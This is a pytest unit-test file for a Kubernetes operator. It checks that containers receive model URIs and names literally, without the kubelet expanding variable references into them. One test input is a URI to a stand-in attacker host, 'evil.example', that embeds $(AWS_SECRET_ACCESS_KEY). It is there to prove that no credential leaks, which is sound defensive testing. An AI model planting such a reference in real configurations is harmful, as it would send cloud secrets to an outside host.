"""A container gets the values that the operator means: text from elsewhere names no other variable of it."""

import re
from dataclasses import replace
from typing import Any

import pytest

from sentiment_operator.children.candidate import candidate
from sentiment_operator.children.deployment import pod_template
from sentiment_operator.observed.observation import Template
from tests.unit.operator.scenes import model, target

SECRET = {"AWS_SECRET_ACCESS_KEY": "hunter2"}
URIS = [
    "https://evil.example/$(AWS_SECRET_ACCESS_KEY)/m",
    "az://$web/reviews",
    "s3://mlflow/$$(MODEL_DIR)/$",
    "s3://mlflow/1/models/m-1/artifacts",
]
NAMES = ["$(MODEL_DIR)", "$$", "$", "50 % $(PORT)", "reviews"]


def received(container: dict[str, Any]) -> dict[str, str]:
    """The variables as the kubelet sets them: those of the Secret, then its own, each with references replaced."""
    values = dict(SECRET) if container.get("envFrom") else {}
    for one in container["env"]:
        values[one["name"]] = re.sub(
            r"\$(\$|\(([^)]*)\))",
            lambda found: "$" if found[1] == "$" else values.get(found[2], found[0]),
            one["value"],
        )
    return values


@pytest.mark.parametrize("uri", URIS)
def test_an_address_of_artifacts_cannot_carry_a_credential_away(uri: str) -> None:
    resource = model({"credentials": {"secretName": "store"}})
    template = pod_template(resource, replace(target(resource, "14"), source_uri=uri))
    (fetch,) = template["spec"]["initContainers"]
    assert received(fetch)["MODEL_URI"] == uri
    assert Template.parse(template).source_uri == uri


def test_the_address_is_read_from_a_template_of_an_earlier_release() -> None:
    resource = model()
    template = pod_template(resource, replace(target(resource, "14"), source_uri="az://web/reviews"))
    (fetch,) = template["spec"]["initContainers"]
    fetch["env"][0]["value"] = "az://$web/reviews"
    assert Template.parse(template).source_uri == "az://$web/reviews"


@pytest.mark.parametrize("name", NAMES)
def test_serve_and_verify_get_the_models_name(name: str) -> None:
    resource = model({"model": {"name": name, "version": "14"}})
    what = target(resource, "14")
    job = candidate(resource, what, pod_template(resource, what), against=None, not_compared="none serves")
    pod = job["spec"]["template"]["spec"]
    containers = [one for one in (*pod["initContainers"], *pod["containers"]) if one["name"] != "fetch"]
    assert [received(one)["MODEL_NAME"] for one in containers] == [name, name]
